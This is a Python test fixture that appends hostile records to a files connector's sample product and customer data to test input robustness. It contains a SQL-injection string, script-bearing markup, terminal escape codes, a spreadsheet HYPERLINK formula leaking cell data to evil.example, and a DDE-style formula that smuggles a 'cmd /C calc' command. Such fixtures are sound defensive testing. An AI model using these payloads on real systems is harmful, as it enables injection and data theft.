"""Hostile values and the source files that carry them into a copied project (files connector).

Values a real feed sends sooner or later: quotes of both kinds, SQL, markup with script, control
characters (NUL, BEL, ESC sequences), 10,000-character strings, emoji with joiners and flags,
spreadsheet formulas, and lines whose bytes are not UTF-8 at all.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

SQL = "'; DROP TABLE golden_records; --"
MARKUP = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script></td>'
CONTROL = "\x00\x07\x1b[2J\x1b[31m\x7f"
EMOJI = "🔩👩‍👩‍👧🇩🇪 é ß ﬁ"
# names go through trim + collapse_spaces, so single spaces and no edge whitespace keep them as sent
NAME = f'O\'Brien "Bolt" {SQL} {MARKUP} {CONTROL} {EMOJI}'
LONG = (f"{SQL} {EMOJI} " + "x" * 10_000)[:9_989] + "-END-OF-10K"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'

PRODUCT_SKU = "SKU-HOSTILE-1"
CUSTOMER_NO = "C99990"
# keys that break the key format: quarantined with their payload and the format rule
BAD_SKU = f"{SQL}{MARKUP}\x07\x1b[2J\x9b"
NUL_SKU = "SKU-NUL\x00-1"  # PostgreSQL text cannot hold NUL: such a key must be refused, not crash
FORMULA_SKU = FORMULA
FORMULA_ACCOUNT = "@SUM(1+1)*cmd|' /C calc'!A0"
LONG_SKU = "SKU-" + "9" * 9_996
ERP_NAME = f'Bolt, "quoted", with a\nline break {SQL} {FORMULA}'

PIM_PRODUCT = {
    "identifier": PRODUCT_SKU,
    "family": "tools",
    "enabled": True,
    "values": {"name": NAME, "description": LONG, "brand": FORMULA, "ean": None, "material": EMOJI},
}
CRM_COMPANY = {
    "id": "9990",
    "updatedAt": "2026-10-01T09:00:00Z",
    "properties": {
        "account_number": CUSTOMER_NO,
        "name": NAME,
        "email": "ops@hostile.example",
        "segment": "wholesale",
        "tags": f"{FORMULA};{MARKUP}",
        "lifecyclestage": "customer",
    },
    "addresses": [
        {"type": "billing", "name": NAME, "street": LONG, "city": EMOJI, "zip": "1", "country": "DE"}
    ],
    "contacts": [{"firstname": EMOJI, "lastname": SQL, "email": "a@hostile.example", "primary": "true"}],
}
# a line that is not UTF-8 (latin-1 bytes), one per format
NOT_UTF8_JSON = b'{"identifier": "SKU-LATIN1", "values": {"name": "Caf\xe9 cr\xe8me \xff"}}\n'
NOT_UTF8_CSV = b"SKU-LATIN2,Caf\xe9 cr\xe8me \xff,1.00,0.5000,USD,unit\n"


def add_hostile_records(project: Path, bad_key: str | None = None) -> None:
    """Append the hostile records to the copied sample data (the files connector's inboxes).

    With ``bad_key``: only the hostile product and one product keyed ``bad_key``.
    """
    data = project / "sandbox" / "data"
    products = [PIM_PRODUCT] + [
        {"identifier": sku, "family": "tools", "enabled": True, "values": {"name": "bad key"}}
        for sku in ([bad_key] if bad_key is not None else [BAD_SKU, FORMULA_SKU])
    ]
    with (data / "pim" / "product" / "products.jsonl").open("ab") as handle:
        for record in products:
            handle.write(json.dumps(record).encode() + b"\n")
        if bad_key is not None:
            return
        handle.write(NOT_UTF8_JSON)
    with (data / "crm" / "customer" / "companies.jsonl").open("ab") as handle:
        bad = {**CRM_COMPANY, "id": "9991", "properties": {**CRM_COMPANY["properties"]}}
        bad["properties"]["account_number"] = FORMULA_ACCOUNT
        for record in (CRM_COMPANY, bad):
            handle.write(json.dumps(record).encode() + b"\n")
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(
        [PRODUCT_SKU, ERP_NAME, "12.50", "7.0000", "USD", "unit"]
    )
    with (data / "erp" / "product" / "products.csv").open("ab") as handle:
        handle.write(buffer.getvalue().encode())
        handle.write(NOT_UTF8_CSV)
